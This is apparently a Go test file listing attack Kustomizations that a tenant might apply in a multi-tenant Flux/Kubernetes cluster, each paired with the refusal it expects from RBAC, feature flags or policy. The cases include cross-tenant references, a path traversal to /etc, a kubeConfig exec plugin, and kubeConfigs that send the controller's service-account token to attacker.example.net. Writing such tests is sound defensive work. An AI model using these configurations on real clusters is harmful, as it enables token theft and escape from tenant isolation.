package attack_test

// kustomizationAttacks are Kustomizations that the tenant writes into its home
// namespace.
func kustomizationAttacks() []attack {
	return []attack{
		{
			name:          "Kustomization: sourceRef of another tenant",
			kustomization: `{sourceRef: {kind: GitRepository, name: ${victim}, namespace: ${victim}}}`,
			flags:         refusal{byFlag, "cross-namespace references have been blocked"},
			policy:        refusal{byPolicy, "spec.sourceRef.namespace: refer to objects of your own namespace only"},
		},
		{
			name:          "Kustomization: sourceRef in flux-system",
			kustomization: `{sourceRef: {kind: GitRepository, name: flux-system, namespace: flux-system}}`,
			flags:         refusal{byFlag, "cross-namespace references have been blocked"},
			policy:        refusal{byPolicy, "spec.sourceRef.namespace: refer to objects of your own namespace only"},
		},
		{
			name:          "Kustomization: dependsOn another tenant",
			kustomization: `{dependsOn: [{name: ${victim}, namespace: ${victim}}]}`,
			policy:        refusal{byPolicy, "spec.dependsOn[].namespace: refer to objects of your own namespace only"},
			rule:          "flux-depends-on",
		}, {
			name:          "Kustomization: dependsOn flux-system",
			kustomization: `{dependsOn: [{name: flux-system, namespace: flux-system}]}`,
			policy:        refusal{byPolicy, "spec.dependsOn[].namespace: refer to objects of your own namespace only"},
			rule:          "flux-depends-on",
		},

		{
			name:          "Kustomization: dependsOn flux-system with readyExpr",
			kustomization: `{dependsOn: [{name: flux-system, namespace: flux-system, readyExpr: 'dep.spec.prune == true'}]}`,
			policy:        refusal{byPolicy, "spec.dependsOn[].namespace: refer to objects of your own namespace only"},
			rule:          "flux-depends-on",
		},
		{
			name:          "Kustomization: privileged serviceAccountName",
			kustomization: `{serviceAccountName: kustomize-controller, path: ./privileged}`,
			always:        refusal{byRBAC, `User "system:serviceaccount:${me}:kustomize-controller" cannot patch resource "clusterroles"`},
			proxied:       refusal{byProxy, "failed to get server groups: unknown"},
			direct:        refusal{byRBAC, "failed to get server groups: unknown"},
		}, {
			name:          "Kustomization: privileged serviceAccountName with a kubeConfig",
			with:          `{apiVersion: v1, kind: ConfigMap, metadata: {name: "${id}", namespace: "${me}"}, data: {provider: generic, serviceAccountName: gitops-reconciler, address: "${server}", audiences: "${server}", ca.crt: "${ca}"}}`,
			kustomization: `{serviceAccountName: kustomize-controller, path: ./privileged, kubeConfig: {configMapRef: {name: "${id}"}}}`,
			always:        refusal{byRBAC, "failed to get server groups: unknown"},
			ungated:       refusal{byFlux, "ObjectLevelWorkloadIdentity feature gate is not enabled"},
		},

		{
			name:          "Kustomization: no serviceAccountName",
			kustomization: `{serviceAccountName: null, path: ./privileged}`,
			flags:         refusal{byFlag, `User "system:serviceaccount:${me}:gitops-reconciler" cannot patch resource "clusterroles"`},
			policy:        refusal{byPolicy, "spec.serviceAccountName: name the account to act as"},
		},
		{
			name:          "Kustomization: targetNamespace of another tenant",
			kustomization: `{targetNamespace: ${theirs}}`,
			always:        refusal{byRBAC, `cannot patch resource "configmaps" in API group "" in the namespace "${theirs}"`},
		},
		{
			name:          "Kustomization: targetNamespace flux-system",
			kustomization: `{targetNamespace: flux-system}`,
			always:        refusal{byRBAC, `cannot patch resource "configmaps" in API group "" in the namespace "flux-system"`},
			policy:        refusal{byPolicy, "must not be a namespace of Kubernetes, Flux or Capsule"},
		},
		{
			name:          "Kustomization: healthChecks in another tenant's namespace",
			kustomization: `{timeout: 5s, healthChecks: [{apiVersion: v1, kind: ConfigMap, name: config, namespace: ${theirs}}]}`,
			always:        refusal{byRBAC, `cannot get resource "configmaps" in API group "" in the namespace "${theirs}"`},
		}, {
			name:          "Kustomization: healthChecks in flux-system",
			kustomization: `{timeout: 5s, healthChecks: [{apiVersion: source.toolkit.fluxcd.io/v1, kind: GitRepository, name: flux-system, namespace: flux-system}]}`,
			always:        refusal{byRBAC, `cannot get resource "gitrepositories" in API group "source.toolkit.fluxcd.io" in the namespace "flux-system"`},
			policy:        refusal{byPolicy, "must not be a namespace of Kubernetes, Flux or Capsule"},
		},

		{
			name:          "Kustomization: substituteFrom a Secret of flux-system or another tenant",
			kustomization: `{postBuild: {substituteFrom: [{kind: Secret, name: hidden}]}}`,
			always:        refusal{byFlux, `"hidden" not found`},
		},
		{
			name:          "Kustomization: decryption with a Secret of flux-system or another tenant",
			kustomization: `{decryption: {provider: sops, secretRef: {name: hidden}}}`,
			always:        refusal{byFlux, `"hidden" not found`},
			policy:        refusal{byPolicy, "spec.decryption.serviceAccountName: name the account"},
		},
		{
			name:          "Kustomization: decryption with the controller's own cloud identity",
			kustomization: `{path: ./encrypted, decryption: {provider: sops}}`,
			gated:         refusal{byFlag, "'${me}/gitops-reconciler'"},
			effect:        "no EC2 IMDS role found", // it asks the node for its credentials: there is no cloud here
			rule:          "flux-decryption-identity",
			policy:        refusal{byPolicy, "spec.decryption.serviceAccountName: name the account that may use the keys"},
		},
		{
			name:          "Kustomization: decryption with a ServiceAccount of flux-system",
			kustomization: `{path: ./encrypted, decryption: {provider: sops, serviceAccountName: kustomize-controller}}`,
			always:        refusal{byFlux, "'${me}/kustomize-controller'"},
			ungated:       refusal{byFlux, "enable the ObjectLevelWorkloadIdentity feature gate"},
		},
		{
			name:          "Kustomization: path out of the repository",
			kustomization: `{path: ../../../../etc}`,
			always:        refusal{byFlux, "kustomization path not found"},
		},
		{
			name:          "Kustomization: kubeConfig Secret of flux-system or another tenant",
			kustomization: `{kubeConfig: {secretRef: {name: hidden}}}`,
			always:        refusal{byFlux, `"hidden" not found`},
		},
		{
			name:          "Kustomization: kubeConfig with an exec plugin",
			with:          `{apiVersion: v1, kind: Secret, metadata: {name: exec, namespace: "${me}"}, stringData: {value: '{"apiVersion": "v1", "kind": "Config", "current-context": "x", "clusters": [{"name": "x", "cluster": {"server": "${server}", "certificate-authority-data": "${caData}"}}], "contexts": [{"name": "x", "context": {"cluster": "x", "user": "x"}}], "users": [{"name": "x", "user": {"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": "touch", "args": ["${loot}"], "interactiveMode": "Never"}}}]}'}}`,
			kustomization: `{kubeConfig: {secretRef: {name: exec}}}`,
			always:        refusal{byFlux, "failed to get server groups: unknown"},
		},
		{
			name:          "Kustomization: kubeConfig that skips TLS verification",
			with:          `{apiVersion: v1, kind: Secret, metadata: {name: insecure, namespace: "${me}"}, stringData: {value: '{"apiVersion": "v1", "kind": "Config", "current-context": "x", "clusters": [{"name": "x", "cluster": {"server": "${server}", "insecure-skip-tls-verify": true}}], "contexts": [{"name": "x", "context": {"cluster": "x", "user": "x"}}], "users": [{"name": "x", "user": {"token": "x"}}]}'}}`,
			kustomization: `{kubeConfig: {secretRef: {name: insecure}}}`,
			always:        refusal{byFlux, "x509: certificate signed by unknown authority"},
		},
		{
			name:          "Kustomization: kubeConfig ConfigMap without serviceAccountName",
			with:          `{apiVersion: v1, kind: ConfigMap, metadata: {name: "${id}", namespace: "${me}"}, data: {provider: generic, address: "${server}", audiences: "${server}", ca.crt: "${ca}"}}`,
			kustomization: `{path: ./privileged, kubeConfig: {configMapRef: {name: ${id}}}}`,
			gated:         refusal{byFlag, "failed to get server groups: unknown"},
			ungated:       refusal{byFlag, `User "system:serviceaccount:${me}:gitops-reconciler" cannot patch resource "clusterroles"`},
			policy:        refusal{byPolicy, "data.serviceAccountName: name the account"},
		},
		{
			name:          "Kustomization: kubeConfig Secret of the tenant's own server, with the controller's token file",
			with:          ownServerByTokenFile,
			kustomization: `{kubeConfig: {secretRef: {name: "${id}"}}}`,
			steals:        true,
			always:        refusal{byFlux, "references a tokenFile, only an inline token is supported"},
		},
		{
			name:          "Kustomization: kubeConfig ConfigMap without serviceAccountName, of the tenant's own server",
			with:          ownServer,
			kustomization: `{kubeConfig: {configMapRef: {name: "${id}"}}}`,
			steals:        true,
			flags:         refusal{byEnvironment, deadProxy},
			policy:        refusal{byPolicy, "data.serviceAccountName: name the account"},
		},
	}
}

// ownServerByTokenFile has Flux take the attackers' server for an API server, and send
// it the controller's own token.
const ownServerByTokenFile = `{apiVersion: v1, kind: Secret, metadata: {name: "${id}", namespace: "${me}"}, stringData: {value: '{apiVersion: v1, kind: Config, current-context: x, clusters: [{name: x, cluster: {server: "https://attacker.example.net/${me}/${id}", certificate-authority-data: ${attackerCAData}}}], users: [{name: x, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}], contexts: [{name: x, context: {cluster: x, user: x}}]}'}}`

// ownServer has Flux take the attackers' server for an API server, and send it a
// token of nobody in particular.
const ownServer = `{apiVersion: v1, kind: ConfigMap, metadata: {name: "${id}", namespace: "${me}"}, data: {provider: generic, address: "https://attacker.example.net", audiences: "${me}/${id}", ca.crt: "${attackerCA}"}}`
